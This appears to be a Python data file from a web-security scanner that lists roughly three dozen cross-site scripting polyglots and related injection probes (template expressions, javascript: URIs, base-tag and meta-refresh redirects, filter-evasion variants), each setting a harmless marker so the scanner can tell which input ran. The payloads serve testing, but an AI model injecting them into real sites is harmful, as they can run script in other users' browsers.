"""Texts that have run as script somewhere; each marks itself, so that a page can be searched for what it became."""

MARK = "kqx"
POLYGLOTS = [
    f"<script>window.{MARK}=1</script>", f"<img src=x onerror=window.{MARK}=1>", f"<svg onload=window.{MARK}=1>",
    f'"><script>window.{MARK}=1</script>', f"'><img src=x onerror=window.{MARK}=1>", f"</textarea><script>window.{MARK}=1</script>",
    f"</title><script>window.{MARK}=1</script>", f"</script><script>window.{MARK}=1</script>", f"<!--<img src='--><img src=x onerror=window.{MARK}=1>'>",
    f'" onmouseover="window.{MARK}=1" x="', f"' onfocus='window.{MARK}=1' autofocus='", f"javascript:window.{MARK}=1",
    f"JaVaScRiPt:window.{MARK}=1//", f'<a href="javascript:window.{MARK}=1">{MARK}</a>', f"<iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"<math><mtext></mtext><script>window.{MARK}=1</script></math>", f"<details open ontoggle=window.{MARK}=1>", f"<body onload=window.{MARK}=1>",
    f"<input autofocus onfocus=window.{MARK}=1>", f"<div hx-get='/' hx-trigger='load' hx-on::load='window.{MARK}=1'>{MARK}</div>",
    f"{{{{ {MARK}.__class__ }}}}", f"{{% for x in {MARK} %}}{{% endfor %}}", f"${{window.{MARK}=1}}", f"`${{window.{MARK}=1}}`",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.{MARK}=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.{MARK}=1//>\\x3e",
    f"<style>*{{background:url(javascript:window.{MARK}=1)}}</style>", f"<base href=//{MARK}.example/>", f"<meta http-equiv=refresh content=0;url=//{MARK}>",
    f"<form action=//{MARK}.example><button>{MARK}</button></form>", f"&lt;script&gt;window.{MARK}=1&lt;/script&gt;", f"\\u003cscript\\u003ewindow.{MARK}=1",
    f"<scr\x00ipt>window.{MARK}=1</scr\x00ipt>", f"<<script>window.{MARK}=1//<</script>", f"]]><script>window.{MARK}=1</script>", f"--><svg onload=window.{MARK}=1>",
]  # fmt: skip
